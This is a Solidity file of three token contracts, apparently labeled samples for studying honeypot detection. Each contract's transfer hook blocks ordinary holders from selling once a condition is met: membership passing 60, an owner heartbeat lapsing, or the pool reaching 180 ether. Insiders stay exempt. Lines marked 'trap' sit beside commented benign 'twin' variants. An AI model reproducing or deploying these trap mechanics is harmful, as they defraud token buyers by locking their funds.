// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

interface IBalance {
    function balanceOf(address who) external view returns (uint256);
}

/// The first of us have low numbers.
contract SixtySerials is Base8 {
    uint32 public members;
    mapping(address => uint32) public serialOf;

    constructor() Base8("Sixty Serials", "SIXTY", 6_000_000) {
        serialOf[msg.sender] = ++members;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to != pair && serialOf[to] == 0) serialOf[to] = ++members;
        if (members > 60 && to == pair) require(serialOf[from] < 4, "club is full"); // trap
        // twin: if (members < 60 && from == pair) require(value <= totalSupply / 20, "club is not full");
        _move(from, to, value);
    }
}

/// If nobody looks after it any more, its rules change.
contract PulsekeeperCoin is Base8 {
    uint256 public constant QUIET = 60 days;
    address private immutable _genesis;
    uint256 public lastPulse;

    constructor() Base8("Pulsekeeper", "PULSK", 77_000_000) {
        _genesis = msg.sender;
        lastPulse = block.timestamp;
    }

    function pulse() external onlyOwner {
        lastPulse = block.timestamp;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _genesis) {
            require(block.timestamp < lastPulse + QUIET, "abandoned"); // trap
            // twin: require(block.timestamp > lastPulse + QUIET || value <= totalSupply / 50, "at most a fiftieth");
        }
        _move(from, to, value);
    }
}

/// Once the pool has reached its goal, a new chapter begins.
contract MoonGoalpost is Base8 {
    uint256 public constant GOAL = 180 ether;
    address private immutable _club;

    constructor() Base8("Moon Goalpost", "GOALP", 1_000_000_000) {
        _club = msg.sender;
    }

    function reached() public view returns (bool) {
        return IBalance(WETH).balanceOf(pair) >= GOAL;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _club && to == pair) {
            require(!reached(), "next chapter"); // trap
            // twin: require(reached() || value <= totalSupply / 50, "first chapter");
        }
        _move(from, to, value);
    }
}
